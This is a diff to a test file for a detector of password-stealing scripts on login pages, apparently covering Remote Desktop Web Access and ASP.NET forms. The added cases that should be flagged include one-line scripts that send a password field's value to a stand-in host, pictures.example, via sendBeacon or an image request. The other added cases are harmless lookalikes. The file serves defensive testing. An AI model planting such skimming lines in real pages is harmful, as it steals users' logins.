@@ -111,6 +111,24 @@ testDetector(detector, {
       detections: [{ message: 'sent', at: { line: 2 }, severity: 'high' }],
     },
     {
+      name: 'script of Remote Desktop Web Access that sends its password away',
+      input: inlinePage(
+        'js',
+        'function onSend() { navigator.sendBeacon("https://pictures.example/", document.getElementById("UserPass").value); return true; }',
+      ),
+      ...lying('C:\\Windows\\Web\\RDWeb\\Pages\\render.js'),
+      detections: [{ message: 'sent', at: { line: 1 }, severity: 'high' }],
+    },
+    {
+      name: 'password field that ASP.NET named after the controls around it, in a script of its own',
+      input: inlinePage(
+        'js',
+        'function s() { new Image().src = "https://pictures.example/?" + document.getElementById("ctl00_MainContent_passwordTextBox").value; }',
+      ),
+      ...application,
+      detections: [{ message: 'sent', at: { line: 1 }, severity: 'high' }],
+    },
+    {
       name: 'statistics that see no password are worth a look only',
       input: logon('<script>new Image().src = "https://stats.example/p.gif?" + escape(location.pathname);</script>'),
       ...page,
@@ -132,6 +150,24 @@ testDetector(detector, {
     },
   ],
   misses: [
+    {
+      name: 'script of Remote Desktop Web Access that looks whether a password was given',
+      input: inlinePage(
+        'js',
+        'function onSubmit() { var field = document.getElementById("UserPass"); if (field.value.length == 0) { show("hint"); return false; } return true; }',
+      ),
+      ...lying('C:\\Windows\\Web\\RDWeb\\Pages\\render.js'),
+      looksAlike: true,
+    },
+    {
+      name: 'switch that shows what is typed into a field',
+      input: inlinePage(
+        'js',
+        'function s() { new Image().src = "https://pictures.example/?" + document.getElementById("ctl00_MainContent_showPassword").value; }',
+      ),
+      ...application,
+      looksAlike: true,
+    },
     {
       name: 'a page that loads itself anew',
       input: logon('<meta http-equiv="refresh" content="600; url=logon.aspx?replaceCurrent=1">'),
